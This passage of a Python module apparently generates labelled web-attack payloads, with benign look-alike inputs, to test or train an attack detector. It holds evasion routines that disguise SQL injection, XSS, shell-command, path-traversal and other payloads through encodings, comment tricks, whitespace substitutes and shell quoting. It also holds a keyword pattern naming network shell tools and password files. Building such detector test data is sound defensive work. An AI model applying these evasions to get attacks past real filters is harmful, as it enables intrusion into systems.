            out.append(value[last:m.start()])
            out.append(f"/*!{version}{m[0]}*/" if mode == 1 else f"{m[0]}/**/")
            last = m.end()
    out.append(value[last:])
    text = "".join(out)
    return text if text != value else _replace_spaces(value, rng, ("/**/",))


_WS_SQL = ("%09", "%0a", "%0d", "%0b", "%0c", "+", "  ", "\t", "\n", "\r\n", "%20", "%a0", "/**/", "%0d%0a", "\x0b", "\x0c")
_WS_XSS = ("/", "\n", "\t", "%0a", "%09", "%0c", "%0d", "\x0c", "/x/", "\r")
_WS_SH = ("${IFS}", "$IFS$9", "${IFS%??}", "%09", "\t", "%20", "$IFS", "${IFS}")
_WS_GENERIC = ("  ", "\t", "\n", "%20", "%09", "\r\n", "   ")


def _ev_ws(choices: tuple[str, ...], quoted: bool = False):
    return lambda value, rng: _replace_spaces(value, rng, choices, quoted=quoted)


def _ev_xss_ws(value: str, rng: random.Random) -> str:
    sep = rng.choice(_WS_XSS)
    text, n = re.subn(r"<([a-zA-Z][\w-]*) ", lambda m: f"<{m[1]}{sep}", value)
    return text if n else _replace_spaces(value, rng, ("\n", "\t", "%0a", "%09"), quoted=True)


def _ev_xml_ws(value: str, rng: random.Random) -> str:
    text = _replace_spaces(value, rng, ("\n", "\t", "  ", "\r\n", "\n\t"), quoted=False)
    if text == value:
        text = value.replace("><", rng.choice((">\n<", "> <", ">\t<")), rng.randint(1, 4))
    return text


def _ev_json_ws(value: str, rng: random.Random) -> str:
    sep = rng.choice(("\n", " ", "\t", "\n  ", "\r\n"))
    text = re.sub(r"([{,\[])\s*", lambda m: m[1] + sep, value)
    return text


def _ev_url_ws(value: str, rng: random.Random) -> str:
    """Tabs and newlines inside a URL: browsers strip them."""
    ws = rng.choice(("%09", "%0a", "%0d", "\t", "\n", "%0d%0a"))
    spots = [i for i, ch in enumerate(value[:24]) if ch in "/:"] or [0]
    i = rng.choice(spots)
    return value[:i + 1] + ws + value[i + 1:]


_CONTEXT_CLOSER = re.compile(r"[\w@.%-]*'")


def _sql_literals(value: str) -> list[tuple[int, int]]:
    """Spans of complete '...' literals, skipping the quote that closes the application's string."""
    quotes = [i for i, ch in enumerate(value) if ch == "'"]
    if quotes and _CONTEXT_CLOSER.match(value) and _CONTEXT_CLOSER.match(value).end() == quotes[0] + 1:
        quotes = quotes[1:]
    spans = []
    for a, b in zip(quotes[::2], quotes[1::2]):
        body = value[a + 1:b]
        if 2 <= len(body) <= 40 and "\\" not in body:
            spans.append((a, b + 1))
    return spans


def _ev_sql_concat(value: str, rng: random.Random) -> str:
    spans = _sql_literals(value)
    if not spans:
        return value
    start, end = rng.choice(spans)
    s = value[start + 1:end - 1]
    cut = rng.randint(1, len(s) - 1)
    a, b = s[:cut], s[cut:]
    form = rng.randrange(9)
    if form == 0:
        rep = f"'{a}'||'{b}'"
    elif form == 1:
        rep = f"'{a}' '{b}'"
    elif form == 2:
        rep = f"'{a}'+'{b}'"
    elif form == 3:
        rep = f"concat('{a}','{b}')"
    elif form == 4:
        rep = "char(" + ",".join(str(ord(c)) for c in s) + ")"
    elif form == 5:
        rep = "||".join(f"chr({ord(c)})" for c in s)
    elif form == 6:
        rep = "0x" + s.encode().hex()
    elif form == 7:
        rep = "+".join(f"char({ord(c)})" for c in s)
    else:
        rep = f"x'{s.encode().hex()}'"
    return value[:start] + rep + value[end:]


def _ev_sql_quotes(value: str, rng: random.Random) -> str:
    if "'" in value and '"' not in value and rng.random() < 0.6:
        return value.replace("'", '"')
    if value.startswith(("'", '"')) or rng.random() < 0.5:
        return rng.choice(("%bf", "%df", "%aa", "\\", "%bf%5c")) + value if value[:1] in "'\"" else value
    return value.replace("'", "''", 1) if "'" in value else value


_JS_STRING = re.compile(r"'([^'\\<>]{2,30})'")
_JS_CALL = re.compile(r"\b(alert|prompt|confirm|eval|fetch)\(")


def _ev_js_concat(value: str, rng: random.Random) -> str:
    calls = list(_JS_CALL.finditer(value))
    strings = list(_JS_STRING.finditer(value))
    if calls and (not strings or rng.random() < 0.6):
        m = rng.choice(calls)
        name = m[1]
        cut = rng.randint(1, len(name) - 1)
        rep = rng.choice((f"window['{name[:cut]}'+'{name[cut:]}'](", f"top[atob('{_b64(name)}')](",
                          f"self[String.fromCharCode({','.join(str(ord(c)) for c in name)})](", f"(0,{name})(",
                          f"{name}.call(null,", f"[{name}][0](", f"this['{name}'](", f"globalThis['{name[:cut]}'+'{name[cut:]}']("))
        return value[:m.start()] + rep + value[m.end():]
    if strings:
        m = rng.choice(strings)
        s = m[1]
        cut = rng.randint(1, len(s) - 1)
        rep = rng.choice((f"'{s[:cut]}'+'{s[cut:]}'", "String.fromCharCode(" + ",".join(str(ord(c)) for c in s) + ")",
                          f"atob('{_b64(s)}')", f"'{s[:cut]}'.concat('{s[cut:]}')", f"['{s[:cut]}','{s[cut:]}'].join('')"))
        return value[:m.start()] + rep + value[m.end():]
    return value


def _ev_str_split(joiner: str):
    def apply(value: str, rng: random.Random) -> str:
        strings = list(re.finditer(r"'([^'\\]{3,40})'", value))
        if not strings:
            return value
        m = rng.choice(strings)
        s = m[1]
        cut = rng.randint(1, len(s) - 1)
        return value[:m.start()] + f"'{s[:cut]}'{joiner}'{s[cut:]}'" + value[m.end():]
    return apply


_SHELL_WORD = re.compile(r"\b(cat|id|whoami|uname|ls|curl|wget|nc|ncat|bash|sh|ping|sleep|nslookup|dig|python3?|perl|"
                         r"php|ruby|echo|passwd|shadow|etc|hostname|ifconfig|env|base64|chmod|socat|telnet|head|tail)\b")


def _ev_shell_quote(value: str, rng: random.Random) -> str:
    words = [m for m in _SHELL_WORD.finditer(value) if len(m[0]) >= 2]
    if not words:
        return value
    picks = rng.sample(words, min(len(words), rng.randint(1, 3)))
    out, last = [], 0
    for m in sorted(picks, key=lambda m: m.start()):
        out.append(value[last:m.start()])
        out.append(_split_insert(m[0], rng))
        last = m.end()
    out.append(value[last:])
    return "".join(out)


def _ev_shell_ansi(value: str, rng: random.Random) -> str:
    """Bash ANSI-C quoting of a command word: $'\\x69\\x64'."""
    words = list(_SHELL_WORD.finditer(value))
    if not words:
        return value
    m = rng.choice(words)
    enc = "".join(rng.choice(("\\x%02x" % ord(c), "\\%03o" % ord(c))) for c in m[0])
    return value[:m.start()] + "$'" + enc + "'" + value[m.end():]


def _ev_null(value: str, rng: random.Random) -> str:
    r = rng.random()
    nul = rng.choice(("%00", "%00", "%00", "%2500", "\\x00", "\\0", "%u0000"))
    if r < 0.55:
        return value + nul
    if r < 0.7:
        return nul + value
    dot = value.rfind(".")
    if r < 0.9 and 0 < dot < len(value) - 1:
        return value[:dot] + nul + value[dot:]
    i = rng.randint(0, len(value))
    return value[:i] + nul + value[i:]


_TRAVERSAL_RE = re.compile(r"\.\.[/\\]")


def _ev_path(value: str, rng: random.Random) -> str:
    if _TRAVERSAL_RE.search(value):
        consistent = rng.random() < 0.75
        fixed = _TRAVERSAL(rng)
        return _TRAVERSAL_RE.sub(lambda m: fixed if consistent else _TRAVERSAL(rng), value)
    slashes = [i for i, ch in enumerate(value) if ch == "/"]
    if not slashes:
        return value.replace("\\", "/") if "\\" in value else value
    i = rng.choice(slashes)
    rep = rng.choice(("//", "/./", "/%2f", "%2f", "\\", "/.//", "%5c", "/;/"))
    return value[:i] + rep + value[i + 1:]


def _ev_xss_attr(value: str, rng: random.Random) -> str:
    """Attribute-level variants: quoting of handler values, junk attributes, unclosed tags."""
    r = rng.random()
    if r < 0.4:
        m = list(re.finditer(r"(on[a-z]+)=([^\s>\"'`]+)", value))
        if m:
            x = rng.choice(m)
            q = rng.choice(('"', "'", "`")) if '"' not in x[2] else "'"
            return value[:x.start()] + f"{x[1]}={q}{x[2]}{q}" + value[x.end():]
    if r < 0.7:
        junk = rng.choice(("x", "id=x", "class=" + _word(rng), "foo", "data-x=1", 'a="b"'))
        return re.sub(r"<([a-zA-Z][\w-]*)([\s/])", lambda m: f"<{m[1]}{m[2]}{junk} ", value, count=1)
    if value.endswith(">") and rng.random() < 0.5:
        return value[:-1] + rng.choice(("//", " ", "<!--", "//>", " x"))
    return re.sub(r"(on[a-z]+)=", lambda m: m[1] + rng.choice((" = ", "=", "\n=", "=\n", " =")), value, count=1)


# Evasions per family: (function, weight, stage). Stage orders them: rewrites first, then the
# encodings in the reverse of the order normalize() undoes them (fullwidth, \-escapes, entities, %).
_STAGE_FULLWIDTH, _STAGE_BACKSLASH, _STAGE_HTML, _STAGE_URL = 1, 2, 3, 4
_UNIVERSAL = [(_ev_url, 4, _STAGE_URL), (_ev_html, 0.5, _STAGE_HTML), (_ev_fullwidth, 0.5, _STAGE_FULLWIDTH)]
_EVASIONS: dict[str | None, list] = {
    "sqli": [(_ev_url, 4, 4), (_ev_sql_case, 5, 0), (_ev_sql_comment, 5, 0), (_ev_ws(_WS_SQL), 4, 0), (_ev_sql_concat, 3, 0),
             (_ev_sql_quotes, 2, 0), (_ev_null, 1, 0), (_ev_html, 0.7, 3), (_ev_fullwidth, 0.7, 1),
             (lambda v, r: _ev_backslash(v, r, "u"), 0.3, 2)],
    "xss": [(_ev_url, 4, 4), (_ev_xss_case, 6, 0), (_ev_xss_attr, 3, 0), (_ev_html, 4, 3), (_ev_backslash, 2, 2),
            (_ev_js_concat, 3, 0), (_ev_xss_ws, 3, 0), (_ev_fullwidth, 1, 1), (_ev_null, 0.4, 0)],
    "rce": [(_ev_url, 4, 4), (_ev_ws(_WS_SH), 5, 0), (_ev_shell_quote, 5, 0), (_ev_shell_ansi, 1, 0), (_ev_null, 1, 0),
            (_ev_html, 0.5, 3), (_ev_fullwidth, 0.5, 1), (_ev_win_case, 1, 0)],
    "lfi": [(_ev_url, 5, 4), (_ev_path, 8, 0), (_ev_null, 3, 0), (_ev_win_case, 1, 0), (_ev_fullwidth, 1, 1), (_ev_html, 0.5, 3),
            (_ev_backslash, 0.5, 2)],
    "ssti": [(_ev_url, 4, 4), (_ev_html, 1, 3), (_ev_backslash, 3, 2), (_ev_str_split("+"), 1.5, 0), (_ev_str_split("~"), 1, 0),
             (_ev_ws(_WS_GENERIC, quoted=True), 2, 0), (_ev_fullwidth, 1, 1)],
    "ssrf": [(_ev_url, 4, 4), (_ev_url_case, 3, 0), (_ev_fullwidth, 1, 1), (_ev_url_ws, 0.5, 0), (_ev_html, 0.5, 3)],
    "xxe": [(_ev_xml_ws, 4, 0), (_ev_url, 2, 4), (_ev_html, 0.5, 3)],
    "nosqli": [(_ev_url, 4, 4), (lambda v, r: _ev_backslash(v, r, "u"), 3, 2), (_ev_json_ws, 2, 0), (_ev_str_split("+"), 1, 0),
               (_ev_html, 0.5, 3)],
    "ldapi": [(_ev_url, 5, 4), (_ev_ldap_case, 3, 0), (_ev_null, 3, 0), (_ev_html, 0.5, 3), (_ev_fullwidth, 0.5, 1)],
    "crlf": [(_ev_url, 5, 4), (_ev_hdr_case, 3, 0), (_ev_ws(("%20", "\t", "%09"), quoted=True), 1, 0)],
    "xpathi": [(_ev_url, 4, 4), (_ev_ws(_WS_GENERIC), 3, 0), (_ev_html, 1, 3), (_ev_fullwidth, 0.5, 1), (_ev_null, 0.5, 0)],
    "open-redirect": [(_ev_url, 5, 4), (_ev_url_case, 3, 0), (_ev_url_ws, 3, 0), (_ev_fullwidth, 2, 1),
                      (lambda v, r: _ev_backslash(v, r, "u"), 0.5, 2), (_ev_html, 0.5, 3)],
    "prototype-pollution": [(_ev_url, 6, 4), (lambda v, r: _ev_backslash(v, r, "u"), 3, 2), (_ev_html, 0.5, 3),
                            (_ev_json_ws, 0.5, 0)],
    "ssi": [(_ev_url, 4, 4), (_ev_ws(_WS_GENERIC, quoted=True), 3, 0), (_ev_html, 1, 3), (_ev_fullwidth, 0.5, 1)],
    None: _UNIVERSAL + [(_ev_backslash, 0.5, _STAGE_BACKSLASH), (_ev_ws(_WS_GENERIC), 1, 0), (_ev_null, 0.5, 0)],
}


def _guess_family(value: str) -> str | None:
    low = value.lower()
    if re.search(r"\b(select|union|sleep|waitfor|benchmark)\b|'\s*(or|and)\s", low):
        return "sqli"
    if "<" in low and re.search(r"<[a-z!?/]", low):
        return "xss"
    if "../" in low or "..\\" in low:
        return "lfi"
    if "://" in low:
        return "ssrf"
    return None


def evade(value: str, rng: random.Random, family: str | None = None) -> str:
    """`value` with one to three evasions applied, chosen for its family (guessed when not given).

    The evasions are those attackers layer on payloads: percent-encoding (partial, full, double,
    IIS %u), HTML character references, \\x/\\u escapes, fullwidth forms, keyword case, SQL
    comments and string building, whitespace substitutes, shell quoting, traversal spellings,
    null bytes, tag and attribute variants. The result always differs from `value`.
    (generate() leaves ~60% of payloads untouched; that is the "zero evasions" case.)
    """
    table = _EVASIONS.get(family if family is not None else _guess_family(value)) or _EVASIONS[None]
    k = rng.choices((1, 2, 3), weights=(6, 3, 1))[0]
    weights = [e[1] for e in table]
    chosen: list[tuple] = []
    for _ in range(k):
        pick = rng.choices(range(len(table)), weights=weights)[0]
        if all(c is not table[pick] for c in chosen):
            chosen.append(table[pick])
    chosen.sort(key=lambda e: e[2])
    out = value
    for func, _, _ in chosen:
        out = func(out, rng)
    if out == value:
        out = _ev_url(value, rng, rng.choice(("special", "all")))
        if out == value:
            out = _ev_url(value, rng, "all")
    return out


# ---------------------------------------------------------------------------------------------
# Public API
# ---------------------------------------------------------------------------------------------

def _style(value: str, family: str, rng: random.Random) -> str:
    """House style that is not an evasion: many people write SQL keywords in upper case."""
    if family == "sqli" and rng.random() < 0.3:
        return _SQL_KEYWORDS.sub(lambda m: m[0].upper(), value)
    return value


def _usable(value: str) -> bool:
    return bool(value.strip()) and len(value) <= MAX_CHARS and not SAFE_VALUE.match(value)


def _usable_attack(value: str) -> bool:
    """Also reject values whose decoded form is plain (`%77%68%6f%61%6d%69` is just "whoami")."""
    return _usable(value) and not SAFE_VALUE.match(normalize(value)[0])


def _draw(family: str, n: int, rng: random.Random, exclude: set[str]) -> list[str]:
    out: list[str] = []
    seen = set(exclude)
    attempts, budget = 0, 60 * n + 1000
    while len(out) < n:
        attempts += 1
        value = _style(_s(family, rng), family, rng)
        if rng.random() < EVADE_RATE:
            value = evade(value, rng, family)
        if attempts > budget:  # a grammar this narrow for n: force variety with an evasion
            value = evade(value, rng, family)
        if value not in seen and _usable_attack(value):
            seen.add(value)
            out.append(value)
        if attempts > 4 * budget:
            raise RuntimeError(f"{family}: could not draw {n} distinct payloads")
    return out


def _family_rng(family: str, seed: int) -> random.Random:
    if family not in FAMILIES:
        raise ValueError(f"unknown family {family!r}; expected one of {', '.join(FAMILIES)}")
    return random.Random(seed * 1000 + FAMILIES.index(family))


def generate(family: str, n: int, seed: int) -> list[str]:
    """`n` distinct payload values of one family, the same for the same seed.

    About 40% carry evasions (see `evade`). A shorter list for the same seed is a prefix of a
    longer one. Values are never empty, never longer than MAX_CHARS, and never made only of the
    characters the extractor skips without scoring.
    """
    return _draw(family, n, _family_rng(family, seed), set())


def generate_all(per_family: dict[str, int] | int, seed: int) -> list[tuple[str, str]]:
    """(value, family) pairs: `per_family` payloads of every family (or of the families in the dict).

    Grouped by family in FAMILIES order. A value is kept only under the first family that drew it,
    so the list has no duplicate values (the later family draws another instead).
    """
    counts = {f: per_family for f in FAMILIES} if isinstance(per_family, int) else dict(per_family)
    unknown = set(counts) - set(FAMILIES)
    if unknown:
        raise ValueError(f"unknown families: {sorted(unknown)}")
    pairs: list[tuple[str, str]] = []
    taken: set[str] = set()
    for family in FAMILIES:
        if counts.get(family, 0) > 0:
            values = _draw(family, counts[family], _family_rng(family, seed), taken)
            taken.update(values)
            pairs.extend((v, family) for v in values)
    return pairs


# ---------------------------------------------------------------------------------------------
# Benign look-alikes
# ---------------------------------------------------------------------------------------------

_FIRST = ("José", "María", "François", "Jürgen", "Øyvind", "Zoë", "Siobhán", "Seán", "Chloé", "Björn", "Łukasz", "Antonín",
          "Nguyễn", "Ольга", "Ahmed", "Fatima", "Priya", "Giulia", "Aoife", "Mateo", "Emma", "Liam", "Noah", "Olivia",
          "Sofía", "Lucas", "Mia", "Hiroshi", "Yuki", "Wei", "Ana", "João", "Ines", "Kai", "Leila", "Omar", "Sven",
          "Marta", "Pablo", "Chen", "Dmitri", "Amélie", "Renée", "Søren", "İsmail", "Ülkü", "Małgorzata", "Jean-Luc")
_LAST = ("O'Reilly", "O'Brien", "D'Angelo", "O'Neil", "D'Souza", "N'Diaye", "Dell'Acqua", "L'Estrange", "McDonald",
         "Smith-Jones", "van der Berg", "de la Cruz", "García Márquez", "Müller", "Østergaard", "Nowak", "Dvořák",
         "Kowalski", "Rossi", "Silva", "Dubois", "Schmidt", "Tanaka", "Kim", "Ivanova", "Papadopoulos", "Öztürk",
         "d'Artagnan", "O'Connor", "St. John", "MacLeod", "Al-Farsi", "ben Ami", "López", "Fernández", "Núñez")
_CITIES = ("Madrid", "São Paulo", "Zürich", "Kraków", "Málaga", "Montréal", "Köln", "Göteborg", "Reykjavík", "İstanbul",
           "Tōkyō", "Québec", "Bogotá", "A Coruña", "L'Aquila", "Saint-Étienne", "New York", "San José", "Düsseldorf",
           "Thessaloniki", "Chișinău", "Łódź", "Ciudad de México", "Kyiv", "Paris", "Lisboa", "Dublin", "Berlin", "Oslo")
_PRODUCTS = ("cat food 5kg", "dog treats & chews", "echo dot (4th gen)", "ping pong table", "curl cream for hair",
             "sleep mask", "head & shoulders shampoo", "python tutorial for beginners", "java coffee beans 1kg",
             "ruby ring size 7", "rust remover spray", "go kart for kids", "shell beach towel", "table lamp", "union jack flag",
             "drop earrings", "select comfort mattress", "exec chair", "kill bill vol. 2 dvd", "top 10 hits", "man page reader",
             "find my phone case", "bash birthday banner", "cat tree 120cm", "ls 400 engine parts", "id card holder",
             "who am I? (novel)", "sudo make me a sandwich t-shirt", "order of the phoenix", "where's waldo book",
             "window cleaner 750ml", "alert bracelet", "script font set", "iframe picture frame", "SQL server 2019 book",
             "javascript: the good parts", "null & void (vinyl)", "style guide 2nd ed.", "data cable 2m", "root beer 6-pack")
_THINGS = ("shoes", "laptop", "headphones", "coffee maker", "bike", "sofa", "phone", "jacket", "watch", "printer", "tent",
           "book", "camera", "desk", "guitar", "backpack", "TV", "blender", "mattress", "stroller")
_PHRASES = (
    "C'est la vie", "l'amour toujours", "it's 5 o'clock somewhere", "don't stop me now", "rock 'n' roll", "we're open 'til 9",
    "can't wait!", "y'all come back now", "'cause I said so", "the '90s were great", "rock'n'roll", "n'importe quoi",
    "qu'est-ce que c'est ?", "aujourd'hui c'est lundi", "com'è andata?", "dell'anno scorso", "l'été dernier",
    "¿Dónde está mi pedido?", "¡Oferta! 2x1 en zapatillas", "Calle Mayor, 5 - 2º izq.", "Größe: M/L", "Müller & Söhne GmbH",
    "Straße & Hausnr.", "Não sei, talvez amanhã", "São Paulo – SP", "東京都渋谷区 1-2-3", "ありがとうございます！",
    "你好，世界", "价格：¥199", "Привет, как дела?", "ул. Ленина, д. 5", "مرحبا بالعالم", "שלום עולם", "नमस्ते दुनिया",
    "안녕하세요 (반갑습니다)", "Καλημέρα σας", "Günaydın & iyi günler", "Zażółć gęślą jaźń", "Cảm ơn bạn nhiều",
    "Great job 👍", "🔥 50% off 🔥", "¯\\_(ツ)_/¯", "(╯°□°）╯︵ ┻━┻", "Meh -- it's OK", ":-)", ";-)", "^_^", "xD <3",
    "SELECT is my favourite band", "select your size", "Please select an option", "drop-down menu", "Drop us a line!",
    "update: shipped today", "insert coin to continue", "delete my account please", "Union Station, Denver",
    "order by phone", "group by age?", "where is my order?", "from Paris with love", "join our team!", "table for 2 at 8pm",
    "create an account", "having fun yet?", "like it or not", "and/or", "null and void", "case closed", "exec summary (draft)",
    "benchmark results: 15% faster", "char limit: 280", "sleep 8 hours a night", "or best offer", "1 or 2 nights",
    "cats and/or dogs", "fish & chips -- £7.50", "rock & roll", "salt & pepper", "terms & conditions", "Q&A session",
    "R&D department", "AT&T store", "B&B near the beach", "M&Ms (peanut)", "Ben & Jerry's", "Marks & Spencer",
    "Procter & Gamble", "H&M sale", "S&P 500 index", "Tom & Jerry", "black & white photo", "a < b", "x > y", "<3 love it",
    "I <3 NY", "<-- back", "next -->", ">>> continue", "<< prev", "→ next page", "1 + 1 = 2", "50% off", "100% cotton",
    "path/to/file.txt", "https://example.com/page?x=1", "email@domain.com; other@domain.com", "O'Reilly", "n/a", "N/A",
    "{{placeholder}} in our docs", "Hello {name}!", "Dear {{ first_name }},", "%s items left", "{0} of {1}", "[draft]",
    "<your email here>", "(optional)", "3/4 cup sugar", "24/7 support", "9-5, Mon-Fri", "A+ grade", "C++ / C# / F#",
    ".NET 8 (LTS)", "node.js & Vue.js", "x86_64 build", "UTF-8 only", "e.g. John's", "i.e. the 'main' one", "w/o sugar",
    "b/c it's late", "yes/no", "either/or", "#1 fan!!!", "#hashtag #love", "@mention me", "Meet @ 5pm", "$5.99 each",
    "€12,50 / kg", "£20 off", "¥500", "₹1,299", "10 x 20 cm", "5'11\" tall", "12\" pizza", "He said \"hi\"",
    "\"exact phrase\" search", "'quoted' text", "`code` sample", "key=value", "a=1&b=2", "sort=price_desc&page=2",
    "color: red; size: M", "width: 100%;", "margin: 0 auto", "font-size:12px", "rgb(255, 0, 0)", "#ff00aa", "[1, 2, 3]",
    "x != y", "a == b", "if (a < b) then c", "score: 10/10", "5 * 3 = 15", "2^10 = 1024", "age >= 18", "price <= 20 €",
    "<b>bold</b> text", "<i>italic</i>", "line<br>break", "<p>Hello</p>", "Tom said: <quote>hi</quote>", "-- Sent from my phone",
    "-- \nJohn", "...", "???", "!!!", "wait...what?!", "Re: Re: Fwd: meeting", "Ref: INV/2023/0042", "SKU: AB-123 (blue)")


def _benign_phrase(rng: random.Random) -> str:
    return rng.choice(_PHRASES)


def _arith(rng: random.Random) -> str:
    a, b = rng.randint(1, 99), rng.randint(1, 99)
    return rng.choice((f"{a} + {b} = {a + b}", f"{a + b} - {b} = {a}", f"{a} x {b} = {a * b}", f"{a} * {b} = {a * b}",
                       f"{a * b} / {b} = {a}", f"{min(a, b)} < {max(a, b) + 1}", f"{max(a, b) + 1} > {min(a, b)}",
                       f"{a}% of {b * 10}", f"{a}/{b}", f"({a} + {b}) * 2", f"{a}:{b:02d}", f"{a}.{b} kg", f"{a}-{b} years",
                       f"{a} < x < {a + b}", f"~{a} min", f"{a}°C / {a * 9 // 5 + 32}°F", f"{a}'{b % 12}\""))


_BENIGN_WORDS = ("home", "about", "news", "summer", "report", "photo", "notes", "invoice", "travel", "recipe", "garden",
                 "music", "family", "project", "budget", "holiday", "contact", "profile", "team", "blue", "coffee", "party",
                 "draft", "final", "meeting", "cv", "resume", "menu", "kids", "dog", "paella", "beach", "wedding", "tax",
                 "hola", "bonjour", "katze", "casa", "libro", "jardin", "fiesta", "velo", "zug", "mar", "sol", "nieve")
_def("bw", lambda rng: rng.choice(_BENIGN_WORDS))
_def("bW", lambda rng: rng.choice(("AB", "IB", "LH", "UX", "FR", "KL", "AF", "BA", "VY", "EZ")))
_def("b_first", lambda rng: rng.choice(_FIRST))
_def("b_last", lambda rng: rng.choice(_LAST))
_def("b_city", lambda rng: rng.choice(_CITIES))
_def("b_product", lambda rng: rng.choice(_PRODUCTS))
_def("b_thing", lambda rng: rng.choice(_THINGS))
_def("b_phrase", _benign_phrase)
_def("b_arith", _arith)
_def("b_n", _ri(1, 99))
_def("b_price", lambda rng: rng.choice((f"${rng.randint(1, 999)}.{rng.randint(0, 99):02d}", f"€{rng.randint(1, 999)},{rng.randint(0, 99):02d}",
                                         f"£{rng.randint(1, 500)}", f"{rng.randint(1, 9999)} ¥", f"{rng.randint(5, 500)} zł")))
_def("b_site", ["example", "mysite", "shop", "blog", "news", "wiki", "docs", "store", "acme", "travel", "recipes", "forum"])
_def("b_tld", ["com", "org", "net", "es", "de", "co.uk", "fr", "io", "it", "jp"])
_def("b_email", lambda rng: (_letters(rng, 3, 8) + rng.choice((".", "_", "+", "")) + _letters(rng, 2, 6) + "@"
                             + rng.choice(("gmail.com", "yahoo.es", "outlook.com", "example.org", "web.de", "mail.ru", "proton.me"))))
_def("b_date", lambda rng: rng.choice((f"20{rng.randint(10, 26)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
                                        f"{rng.randint(1, 28):02d}/{rng.randint(1, 12):02d}/20{rng.randint(10, 26)}",
                                        f"{rng.randint(1, 12)}:{rng.randint(0, 59):02d} {rng.choice(('AM', 'PM'))}",
                                        f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}–{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}")))
_def("b_phone", lambda rng: rng.choice((f"+1 ({rng.randint(200, 999)}) {rng.randint(200, 999)}-{rng.randint(1000, 9999)}",
                                         f"+34 {rng.randint(600, 999)} {rng.randint(10, 99)} {rng.randint(10, 99)} {rng.randint(10, 99)}",
                                         f"+44 (0){rng.randint(20, 79)} {rng.randint(1000, 9999)} {rng.randint(1000, 9999)}",
                                         f"0{rng.randint(100, 999)}/{rng.randint(100000, 999999)}")))
_def("b_path", ["docs/§bw§.md", "images/§bw§_§b_n§.jpg", "C:\\Users\\§bw§\\Documents\\report §b_n§.docx", "~/Downloads/§bw§.pdf",
                "src/§bw§/index.js", "/products/§bw§-§b_n§", "path/to/§bw§.txt", "assets/css/main.css?v=§b_n§", "uploads/2024/05/§bw§ (1).png",
                "D:\\Fotos\\Vacaciones §b_city§\\IMG_§N§.JPG", "/home/§bw§/notes.txt", "./config/settings.yaml", "reports/Q§n§ 2024.xlsx"])
_def("b_url", ["https://www.§b_site§.§b_tld§/§bw§?id=§b_n§&lang=es", "http://§b_site§.§b_tld§", "www.§b_site§.§b_tld§/about",
               "https://§b_site§.§b_tld§/§bw§#section-§b_n§", "https://maps.google.com/?q=§b_city§", "mailto:§b_email§",
               "https://youtu.be/§rand§", "https://§b_site§.§b_tld§/search?q=§bw§+§bw§&page=§b_n§", "tel:+34§N§",
               "git@github.com:§bw§/§bw§.git", "https://§b_site§.§b_tld§/blog/20§nn§/§bw§-§bw§/", "https://cdn.§b_site§.§b_tld§/img/§bw§.png?w=§N§"])
# Ordinary domains drawn like the attack grammars draw theirs (random letters, many TLDs): an
# unknown domain alone must not look like an attack, only the tricks and targets around it.
_B_TLDS = ("com", "net", "org", "io", "de", "fr", "es", "it", "nl", "pl", "ru", "cn", "jp", "br", "com.br", "co.uk",
           "edu", "info", "biz", "ca", "com.au", "ch", "se", "no", "co", "in", "dev", "app", "shop", "or.th")
_def("b_dom", lambda rng: (rng.choice(("", "", "www.", "blog.", "shop.", "m.", "en.")) + _letters(rng, 2, 11)
                           + rng.choice(("", "", "", "-" + _letters(rng, 2, 7))) + "." + rng.choice(_B_TLDS)))


def _b_ipv6(rng: random.Random) -> str:
    groups = [f"{rng.randint(0, 0xFFFF):x}" for _ in range(8)]
    groups[0] = rng.choice(("2001", "2a02", "2a01", "2600", "2604", "2406", "2a00", "fe80", "2003", "2c0f"))
    if rng.random() < 0.5:  # zero-run compression
        start = rng.randint(1, 6)
        return ":".join(groups[:start]) + "::" + ":".join(groups[start + rng.randint(1, 2):])
    return ":".join(groups)


def _b_ip(rng: random.Random) -> str:
    """Client addresses as proxies forward them (x-forwarded-for, forwarded, logs)."""
    one = lambda: _b_ipv6(rng) if rng.random() < 0.5 else _pub_ip(rng)  # noqa: E731
    form = rng.randrange(5)
    if form == 0:
        return ", ".join(one() for _ in range(rng.randint(2, 3)))
    if form == 1:
        return f"for={one()};proto=https" if rng.random() < 0.5 else f'for="[{_b_ipv6(rng)}]:{rng.randint(1025, 65535)}"'
    if form == 2:
        return f"[{_b_ipv6(rng)}]:{rng.randint(1025, 65535)}"
    return _b_ipv6(rng)


_def("b_ip", _b_ip)
_def("b_url2", ["https://§b_dom§/", "http://§b_dom§", "https://§b_dom§/§bw§/§bw§-§b_n§.html", "http://§b_dom§/§bw§.php?id=§b_n§",
                "https://§b_dom§/?utm_source=§bw§&utm_medium=§bw§", "https://§b_dom§/auth/callback?code=§rand§&state=§rand§",
                "https://§b_dom§/login?next=/§bw§/§N§", "https://§b_dom§/§bw§/", "§b_dom§", "https://§b_dom§:§N§/§bw§"])
_def("b_review", ["Great product!!! §n§/5 would buy again :)", "Not bad... but shipping took §n§ weeks :(",
                  "Worked fine w/ my §b_thing§; 10/10", "Love it <3 <3", "Don't buy -- broke after §n§ days!!", "meh. it's ok I guess",
                  "5 stars ★★★★★", "Arrived on time & well packed", "Size runs small (order 1 up)", "Color is more \"beige\" than white",
                  "Best §b_thing§ I've had, thx!", "¡Muy buena calidad! Lo recomiendo 100%", "Très bien, merci ! J'adore",
                  "Sehr gut & schnell geliefert", "Ottimo prodotto, consigliato :-)", "質が良いです！", "Отличный товар, спасибо!"])
_def("b_search", ["how to §bw§ a §b_thing§", "best §b_thing§ under $§N§", "§b_thing§ vs §b_thing§", "§b_thing§ near me",
                  "cheap flights §b_city§ - §b_city§", "what's the weather in §b_city§?", "define: §bw§", "\"§b_thing§\" reviews",
                  "§b_product§", "§b_product§ -used", "§b_thing§ (refurbished)", "who is §b_first§ §b_last§?", "§b_first§'s recipe for tortilla",
                  "hotels in §b_city§ & nearby", "§b_thing§ size 10/11", "is §b_thing§ worth it?", "§b_thing§ + case bundle"])
_def("b_json", ['{"name": "§b_first§", "age": §b_n§}', '{"items": [§b_n§, §b_n§], "total": §N§}', '{"query": "§bw§ §bw§", "page": §n§}',
                '{"city": "§b_city§", "zip": "§N§"}', '["§bw§", "§bw§"]', '{"ok": true}', '{"note": "§b_phrase§"}'])
_def("b_misc", ["Invoice #§N§ (paid)", "Order #§N§ - §b_product§", "Room §n§B, floor §n§", "Apt. #§nn§, §b_city§",
                "§b_first§ §b_last§", "§b_last§, §b_first§", "§b_first§ & §b_first§", "Mr. §b_last§ (CEO)", "§b_email§",
